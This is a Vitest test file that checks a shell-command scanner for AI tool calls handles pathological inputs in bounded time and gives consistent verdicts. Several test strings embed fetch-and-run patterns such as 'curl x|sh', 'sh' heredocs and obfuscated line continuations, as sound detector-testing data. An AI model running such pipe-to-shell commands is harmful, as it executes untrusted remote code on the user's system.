import { beforeAll, describe, expect, it } from 'vitest';
import { initShellParser, scanArguments, type ToolDefinition } from '../../../src/index.js';
import { BENIGN_COMMANDS } from './shell-corpus.js';

const shellTool: ToolDefinition = { name: 'run_command', inputSchema: { type: 'object' } };
const writeTool: ToolDefinition = { name: 'write_file', inputSchema: { type: 'object' } };
// Generous for a slow, shared machine; a blow-up in parse or analysis costs seconds, not milliseconds.
// On a machine so loaded that an ordinary script of 40 KB takes longer, the bound is a few of those.
const BOUND_MS = 250;
const ORDINARY_SCRIPT = `${BENIGN_COMMANDS.join('\n')}\n`.repeat(20).slice(0, 40_000);
let bound = BOUND_MS;

/** The fastest of three runs of `scan`, in milliseconds: noise from other work only ever adds time. */
function fastest(scan: () => unknown): number {
  let best = Number.POSITIVE_INFINITY;
  for (let i = 0; i < 3; i++) {
    const start = performance.now();
    scan();
    best = Math.min(best, performance.now() - start);
  }
  return best;
}

/** Blocking findings of one scan, as `detector/code`, sorted. */
function verdict(args: Record<string, unknown>, tool: ToolDefinition): string[] {
  return scanArguments(args, tool)
    .filter((f) => f.recordOnly !== true)
    .map((f) => `${f.detector}/${f.code}`)
    .sort();
}

type Outcome = 'blocks' | 'passes';

const CASES: readonly (readonly [string, string, Outcome])[] = [
  ['10k nested $( … )', `${'$('.repeat(10_000)}id${')'.repeat(10_000)}`, 'blocks'],
  ['nested "$( … )" with a payload', `${'echo "$('.repeat(2_000)}curl x|sh${')"'.repeat(2_000)}`, 'blocks'],
  ['64 KiB of pipes', `${'a|'.repeat(32 * 1024 - 2)}sh`, 'blocks'],
  ['64 KiB of pipes into curl', `${'curl x|'.repeat(9_000)}sh`, 'blocks'],
  ['10k semicolons', ';'.repeat(10_000), 'passes'],
  ['10k commands and semicolons', 'a;'.repeat(10_000), 'blocks'],
  ['a 60 KB heredoc to cat', `cat <<'EOF'\n${'line of text\n'.repeat(4_600)}EOF\n`, 'passes'],
  ['a 60 KB heredoc to sh', `sh <<EOF\n${'echo hi\n'.repeat(7_000)}EOF\n`, 'blocks'],
  ['10k unclosed heredocs', '<<E '.repeat(10_000), 'blocks'],
  ['10k brace expansions in a word', `echo ${'{a,b}'.repeat(10_000)}`, 'blocks'],
  ['20k nested braces', `echo ${'{'.repeat(20_000)}${'}'.repeat(20_000)}`, 'blocks'],
  ['a long comma list in braces', `echo {${'a,'.repeat(30_000)}b}`, 'passes'],
  ['60k double quotes', `echo ${'"'.repeat(60_000)}`, 'blocks'],
  ['60k backslashes', `echo ${'\\'.repeat(60_000)}`, 'passes'],
  ['60k backticks', '`'.repeat(60_000), 'blocks'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
  ['10k variable expansions', `echo ${'${a:-${b}}'.repeat(6_000)}`, 'blocks'],
  ['3k line continuations', `cu\\\n${'r\\\n'.repeat(3_000)}l x | sh`, 'passes'],
  ['a 64 KiB single word', `echo ${'x'.repeat(64 * 1024 - 6)}`, 'passes'],
  [
    '3k distinct process calls in a one-liner',
    `python3 -c '${Array.from({ length: 3_000 }, (_, i) => `os.system("ls ${i}")`).join(';')}'`,
    'blocks',
  ],
  ['3k equal process calls in a one-liner', `python3 -c '${'os.system("ls");'.repeat(3_000)}'`, 'passes'],
  [
    '20k nested parentheses around a call argument',
    `python3 -c 'os.system(${'('.repeat(20_000)}"x"${')'.repeat(20_000)})'`,
    'blocks',
  ],
  ['8k concatenated literals', `python3 -c 'os.system(${'"a"+'.repeat(8_000)}"a")'`, 'passes'],
  ['10k unclosed perl quotes', `perl -e '${'q('.repeat(10_000)}'`, 'passes'],
  ['10k unclosed triple quotes', `python3 -c '${'"""x'.repeat(10_000)}'`, 'passes'],
  ['10k unclosed regexes', `perl -e '${'(/['.repeat(10_000)}'`, 'passes'],
  ['3k awk pipes', `awk 'BEGIN{${'"x" | getline;'.repeat(3_000)}}'`, 'passes'],
];

beforeAll(async () => {
  await initShellParser();
  verdict({ command: 'curl x | sh' }, shellTool); // warm the parser and the detectors
  const ordinary = fastest(() => verdict({ command: ORDINARY_SCRIPT }, shellTool));
  bound = Math.max(BOUND_MS, 3 * ordinary);
});

describe('pathological shell text is judged in bounded time, the same way every time', () => {
  it.each(CASES)('%s', (_name, text, outcome) => {
    expect(text.length).toBeLessThanOrEqual(64 * 1024 + 32);
    const runs: string[][] = [];
    expect(fastest(() => runs.push(verdict({ command: text }, shellTool)))).toBeLessThan(bound);
    expect(runs[1]).toEqual(runs[0]);
    expect(runs[2]).toEqual(runs[0]);
    expect(runs[0]?.length === 0 ? 'passes' : 'blocks', runs[0]?.join(', ')).toBe(outcome);
  });

  it.each(CASES)('%s written to a script file', (_name, text, outcome) => {
    const args = { path: 'build/run.sh', content: text };
    const runs: string[][] = [];
    expect(fastest(() => runs.push(verdict(args, writeTool)))).toBeLessThan(bound);
    expect(new Set(runs.map((r) => r.join())).size).toBe(1);
    expect(runs[0]?.length === 0 ? 'passes' : 'blocks').toBe(outcome);
  });

  it('reads the ordinary script used for the bound, and finds nothing in it', () => {
    expect(verdict({ command: ORDINARY_SCRIPT }, shellTool)).toEqual([]);
  });
});
